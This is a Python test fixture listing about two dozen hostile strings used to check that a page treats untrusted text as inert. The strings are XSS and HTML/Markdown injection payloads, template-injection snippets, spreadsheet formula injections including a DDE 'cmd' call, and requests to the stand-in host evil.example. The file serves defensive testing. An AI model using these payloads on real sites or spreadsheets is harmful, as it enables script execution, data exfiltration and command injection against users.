"""Texts that would run, load or break something wherever a page took them for more than text."""

EVIL = "evil.example"

HOSTILE_TEXTS = (
    f"<script>fetch('http://{EVIL}/1')</script>",
    f'<img src=http://{EVIL}/2 onerror="window.ran=2">',
    f"<svg/onload=\"window.ran=3;fetch('http://{EVIL}/3')\">",
    f"<iframe src=http://{EVIL}/4></iframe>",
    '<iframe srcdoc="<script>parent.ran=5</script>"></iframe>',
    f"<object data=http://{EVIL}/6></object><embed src=http://{EVIL}/6>",
    f"<link rel=stylesheet href=http://{EVIL}/7><style>@import 'http://{EVIL}/7'</style>",
    f"<base href=http://{EVIL}/8/><meta http-equiv=refresh content='0;url=http://{EVIL}/8'>",
    f"<form action=http://{EVIL}/9><button autofocus onfocus=window.ran=9>Go</button></form>",
    f"<video autoplay src=http://{EVIL}/10 onerror=window.ran=10></video>",
    "<details open ontoggle=window.ran=11>x</details>",
    "<a href=javascript:window.ran=12>x</a> [x](javascript:window.ran=12)",
    f"![x](http://{EVIL}/13.png)",
    f"[![x](http://{EVIL}/14.png)](http://{EVIL}/14)",
    f"[x]: http://{EVIL}/15 \n\n[x]",
    f"<http://{EVIL}/16> www.{EVIL} someone@{EVIL}",
    "$\\href{javascript:window.ran=17}{x}$ $$\\includegraphics{x}$$",
    ":red[x] :material/star: :streamlit: :rainbow-background[x] # x",
    f"```html\n<script src=http://{EVIL}/19></script>\n```\n| a |\n|---|\n| ![x](http://{EVIL}/19) |",
    f'"><script src=//{EVIL}/20></script>',
    "'-window.ran=21-' {{constructor.constructor('window.ran=21')()}} ${window.ran=21}",
    "</textarea></script></style><img src=x onerror=window.ran=22>",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("http://{EVIL}/24","x")',
    f"@import url(http://{EVIL}/25); background:url(http://{EVIL}/25)",
    f"\u202egpj.exe\u202c \x1b]8;;http://{EVIL}/26\x1b\\x \x00 &lt;img src=http://{EVIL}/26&gt;",
)
"""HTML, Markdown, formulas, templates and control characters; none may set `window.ran` or reach the host `EVIL`."""
